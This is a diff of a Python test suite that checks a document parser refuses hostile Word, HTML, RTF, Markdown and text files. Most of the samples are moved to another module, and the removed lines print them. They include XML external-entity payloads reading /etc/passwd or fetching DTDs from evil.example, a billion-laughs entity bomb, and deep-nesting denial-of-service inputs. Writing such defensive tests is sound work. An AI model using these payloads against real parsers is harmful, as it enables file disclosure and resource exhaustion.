@@ -1,28 +1,23 @@
-"""Hostile files: read or refused, quickly, within little memory, and without fetching anything."""
+"""Hostile files: read or refused, and without fetching anything.
 
-import io
+How long the large ones take, and how much memory, `make prove` measures.
+"""
+
 import random
 import socket
 import struct
-import time
-import tracemalloc
-import zipfile
 
 import pytest
 
 from apps.desk import readers
 from apps.desk.parser import parse
 from apps.desk.piece import NotAPiece, Piece
-from apps.desk.tests import documents
-from apps.desk.tests.documents import docx, odt, paragraph, zipped
+from apps.desk.tests import documents, hostile
+from apps.desk.tests.documents import docx, odt, zipped
+from apps.desk.tests.hostile import BODY, HEAD, LAUGHS, W, document_xml
 
-SECONDS = 10
-TWENTY_MB = 20 * 1024 * 1024
-DEEP = 100_000
-BODY = paragraph("Quiet street finds a voice") + paragraph(
-    "The first paragraph says what happened."
-)
-W = f'xmlns:w="{documents.W}"'
+SCALE = 0.05
+FILES = hostile.files(SCALE)
 
 
 @pytest.fixture(autouse=True)
@@ -37,8 +32,7 @@ def _no_network(monkeypatch):
 
 
 def handed_in(data: bytes) -> Piece | str:
-    """The piece, or why it is none; fails when it takes too long or says too much."""
-    began = time.monotonic()
+    """The piece, or why it is none; fails when it says too much."""
     try:
         said = parse(readers.read(data))
     except NotAPiece as problem:
@@ -46,48 +40,14 @@ def handed_in(data: bytes) -> Piece | str:
         assert said.endswith((".", "!"))
         assert "\n" not in said
         assert len(said) < 200
-    assert time.monotonic() - began < SECONDS
     return said
 
 
-def document_xml(markup: str | bytes) -> bytes:
-    """A Word package whose main part is ``markup``."""
-    package = io.BytesIO(docx(BODY))
-    with zipfile.ZipFile(package) as old:
-        members = {name: old.read(name) for name in old.namelist()}
-    return zipped({**members, "word/document.xml": markup})
-
-
-LAUGHS = "".join(
-    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(12)
-)  # 10 ** 11 times "ha"
-
-
-@pytest.mark.parametrize(
-    "markup",
-    [
-        f'<?xml version="1.0"?><!DOCTYPE x [{LAUGHS}]><w:document {W}>&l11;</w:document>',
-        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document {W}>&e;</w:document>',
-        f'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><w:document {W}/>',
-        f'<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x">%e;]><w:document {W}/>',
-        f'<!DOCTYPE x [{LAUGHS}]><w:document {W} w:a="&l11;"/>',
-        ('<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x [<!ENTITY e "x">]><x>&e;</x>').encode(
-            "utf-16"
-        ),
-        f"<w:document {W}><w:body>" + "<w:sdt><w:sdtContent>" * DEEP,
-        f"<w:document {W}><w:body>" + "<w:p>" * DEEP + "</w:p>" * DEEP,
-        f"<w:document {W}>" + "<w:p/>" * 3_000_000,
-        f"<w:document {W} " + " ".join(f'a{n}=""' for n in range(2_000_000)) + "/>",
-        "<w:document",
-        "",
-    ],
-    ids=[
-        *("laughs", "file", "dtd", "parameter", "attribute", "utf-16", "deep", "paragraphs"),
-        *("million", "attributes", "cut", "nothing"),
-    ],
-)
-def test_xml_that_would_do_harm_is_refused(markup):
-    assert isinstance(handed_in(document_xml(markup)), str)
+@pytest.mark.parametrize("name", FILES)
+def test_files_that_want_to_do_harm_are_read_or_refused(name):
+    said = handed_in(FILES[name])
+    if name.startswith("Word"):
+        assert isinstance(said, str)
 
 
 def test_entities_in_opendocument_are_refused():
@@ -174,38 +134,6 @@ def test_names_are_never_paths(tmp_path, monkeypatch):
     assert not list(tmp_path.iterdir())
 
 
-HEAD = "<html><head><title>x</title></head><body><h1>Quiet street</h1><p>One went home.</p>"
-
-
-@pytest.mark.parametrize(
-    "page",
-    [
-        HEAD + "<div>" * DEEP + "deep",
-        HEAD + "<table><tr><td>" * 20_000 + "deep",
-        HEAD + "<ul><li>" * DEEP,
-        HEAD + "<blockquote>" * DEEP,
-        HEAD + "<b>" * 2_000_000,
-        HEAD + "<p>a" * 550_000,
-        HEAD + "<p " + "a='1' " * 1_000_000 + ">",
-        HEAD + "<!--" * 1_000_000,
-        HEAD + "<!" * 300_000,
-        HEAD + "<![CDATA[" * 1_000_000,
-        HEAD + "&" * TWENTY_MB,
-        HEAD + "<a href=#" * 500_000,
-        HEAD + "data:image/" * 1_000_000,
-        HEAD + "data:image/png;" + "a=b;" * 1_000_000,
-        HEAD + "<p>" + "\n" * 5_000_000 + "文",
-        HEAD + "<p>" + "文\n" * 1_000_000,
-        HEAD + "<sup><a href='#n'>1</a></sup>" * 100_000 + "<p id=n>Note",
-        HEAD + "<p class='" + "nav-" * 1_000_000 + "'>text</p>" * 10,
-        HEAD + '<img src="data:image/png;base64,' + "A" * 18_000_000 + '">',
-    ],
-    ids=lambda page: page[len(HEAD) : len(HEAD) + 20],
-)
-def test_pages_that_would_do_harm(page):
-    handed_in(page.encode())
-
-
 def test_pages_fetch_nothing_and_run_nothing():
     page = (
         HEAD + "<script>alert(1)</script><iframe src='http://evil.example'></iframe>"
@@ -215,93 +143,6 @@ def test_pages_fetch_nothing_and_run_nothing():
     piece = handed_in(page.encode())
     assert piece.paragraphs == ("One went home.", "Two went home.")
     assert piece.links == ()
-
-
-@pytest.mark.parametrize(
-    "source",
-    [
-        "{" * DEEP + "deep",
-        "{\\b " * DEEP,
-        "{}" * 1_300_000,
-        "{\\*\\shppict{\\pict\\pngblip " + "a" * 10_000_000,
-        "{\\footnote " * 20_000,
-        "{\\*\\shptxt " * 20_000,
-        "\\bin99999999 x",
-        "\\u99999999999?" * 100_000,
-        "\\'" * 1_000_000,
-        "\\trowd\\cell" * 200_000,
-        "\\par " * 200_000,
-        "\\" * 2_000_000,
-    ],
-    ids=lambda source: source[:16],
-)
-def test_rtf_that_would_do_harm(source):
-    handed_in(f"{{\\rtf1\\ansi Quiet street\\par One went home.\\par {source}".encode())
-
-
-@pytest.mark.parametrize(
-    "line",
-    [
-        "[" * 100_000,
-        "[a](" * 100_000,
-        "![" * 100_000,
-        "*" * 200_000,
-        "*a_" * 100_000,
-        "`" * 200_001,
-        "> " * 20_000 + "x",
-        "- " * 20_000 + "x",
-        "[^1]" * 50_000,
-        "|" * 300_000,
-        "<" * 300_000,
-        "a |\n" * 50_000,
-        "---\n" * 50_000,
-        "<a " * 100_000,
-        "&amp" * 200_000,
-    ],
-    ids=lambda line: line[:8],
-)
-def test_markdown_that_would_do_harm(line):
-    handed_in(f"# Quiet street\n\nOne went home.\n\n[^1]: A note.\n\n{line}\n".encode())
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        "a " * (TWENTY_MB // 2),
-        "a\n" * (TWENTY_MB // 2),
-        "一二三，" * (TWENTY_MB // 12),
-        "\n" * TWENTY_MB,
-        "9" * 1_900_000,
-        "1,000 " * 300_000,
-        "(" * 1_900_000,
-        "Photo: " * 250_000,
-        "近" * 600_000,
-        "“" * 600_000,
-        " " * 1_900_000 + "x",
-        "A" * 1_900_000,
-        "Aa " * 600_000,
-        "x: " * 600_000,
-        "MIME-Version: 1\nContent-Type: multipart/mixed; boundary=a\n\n" + "--a\n\n" * 300_000,
-        "Content-Type: text/html\nMIME-Version: 1.0\n\n" + "<p>" * 2_000_000,
-        "A: b\n" * 3_000_000,
-    ],
-    ids=lambda text: repr(text[:12]),
-)
-def test_text_that_would_do_harm(text):
-    handed_in(f"Quiet street\n\nOne went home.\n\n{text}".encode())
-    handed_in(text.encode())
-
-
-def test_memory_stays_small():
-    """The largest that is read at all, as Python counts it; the limit for a program is 600 MB."""
-    page = HEAD + "".join(f"<p>{n} went home again today.</p>" for n in range(40_000))
-    for data in (page.encode(), docx(paragraph("They went home again today.") * 40_000)):
-        tracemalloc.start()
-        document = readers.read(data)
-        peak = tracemalloc.get_traced_memory()[1]
-        tracemalloc.stop()
-        assert len(document.blocks) >= 40_000
-        assert peak < 200 * 1024 * 1024
 
 
 REFUSED = {
